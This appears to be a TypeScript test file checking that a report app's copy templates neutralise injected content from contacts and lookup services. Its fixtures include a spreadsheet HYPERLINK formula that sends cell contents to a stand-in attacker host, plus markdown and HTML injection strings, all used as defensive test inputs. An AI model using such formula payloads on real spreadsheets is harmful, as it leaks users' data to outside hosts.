import { describe, expect, it } from 'vitest';
import { firstCopy } from '../../../../lib/model/answer/copy-recipe.ts';
import type { Report } from '../../../../lib/model/answer/report.ts';
import { ownCopy } from '../../../../lib/report/copy/own-copy.ts';
import { viewOf } from '../../../../lib/report/view/view.ts';
import {
  caller,
  galleryNow,
  geolocation,
  ipReport,
  phoneReport,
  report,
  validation,
} from '../../../gallery/reports.ts';

const context = { now: galleryNow, here: 'UTC', offer: { kind: 'none' }, asking: false } as const;
const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const markup = '[Click](http://evil.example) @everyone #12 <img src=x>';
const plainFormula = `'=HYPERLINK("http[:]//evil.example/?"&A1,"x")`;
const quotedFormula = `“=HYPERLINK('http[:]//evil.example/?'&A1,'x')” (service)`;
const plainMarkup = '(Click)(http[:]//evil.example) @ everyone # 12 < img src=x>';
const contact = (name: string, company: string): Report => ({
  ...report(phoneReport()),
  names: [{ from: 'contacts', name, company }],
});
const unnamed = ipReport({ country: null, region: null, city: null });

describe('the user’s own text', () => {
  it.each([
    ['{name}', contact(formula, ''), plainFormula],
    ['{company}', contact('Ada', formula), plainFormula],
    ['{e164};{name}', contact('-2+3', ''), `+4915123456789;'-2+3`],
    ['{name}', contact('Ada; =1+1', ''), `Ada;' =1+1`],
    ['{company}', contact('Ada', markup), plainMarkup],
    ['{carrier}', report(phoneReport({ carrier: null }), [validation({ carrier: formula })]), quotedFormula],
    ['{place}', report(phoneReport(), [validation({ location: formula })]), quotedFormula],
    [
      '{country}',
      report(unnamed, [geolocation({ region: null, country: null, countryName: markup })]),
      `“${plainMarkup}” (service)`,
    ],
  ])('begins no formula and has no markup of others: %s', (template, of, expected) => {
    expect(ownCopy(of, context, template)).toBe(expected);
  });

  it('says who says a place and a country, unless the built-in data does', () => {
    const of = report(phoneReport(), [validation({ location: 'Your contacts' })]);
    expect(ownCopy(of, context, '{place}, {country}')).toBe('“Your contacts” (service), Germany');
    const abroad = report(ipReport(), [geolocation({ region: 'Vienna', country: 'AT', countryName: 'Austria' })]);
    expect(ownCopy(abroad, context, '{place}, {country}')).toBe('“Vienna” (service), “Austria” (service)');
    const nowhere = report(unnamed, [geolocation({ region: null, country: null, countryName: 'Your network' })]);
    expect(ownCopy(nowhere, context, '{country}')).toBe('“Your network” (service)');
    expect(ownCopy(report(ipReport()), context, '{country}')).toBe('Germany');
  });

  it('says that the country was assumed, unless it has the number alone', () => {
    const { actions } = viewOf(report(phoneReport()), { read: { country: 'DE', rung: 'language' } });
    const own = (template: string) =>
      actions.copies({ lastCopy: firstCopy, ownCopy: template }, context).find(({ recipe }) => recipe === 'own')?.text;
    expect(own('{national}, {country}, {carrier}')).toBe(
      '01512 3456789, Germany, T-Mobile · Assuming Germany: Only format checked',
    );
    expect(own('Tel. {national}')).toBe('Tel. 01512 3456789');
    expect(own('{company}')).toBeUndefined();
    expect(actions.copy({ lastCopy: { ...firstCopy, phone: 'own' }, ownCopy: '{carrier}' }, context).text()).toContain(
      'Assuming Germany',
    );
  });

  it('keeps what the user wrote around the values, and the user’s own note', () => {
    const of: Report = { ...report(phoneReport(), [caller({ name: 'Ada' })]), note: '- asks for #12, [file](file:a)' };
    expect(ownCopy(of, context, '# **{e164}** @desk [{name}] – {note}')).toBe(
      '# **+4915123456789** @desk [“Ada” (service)] – - asks for #12, [file](file:a)',
    );
  });
});
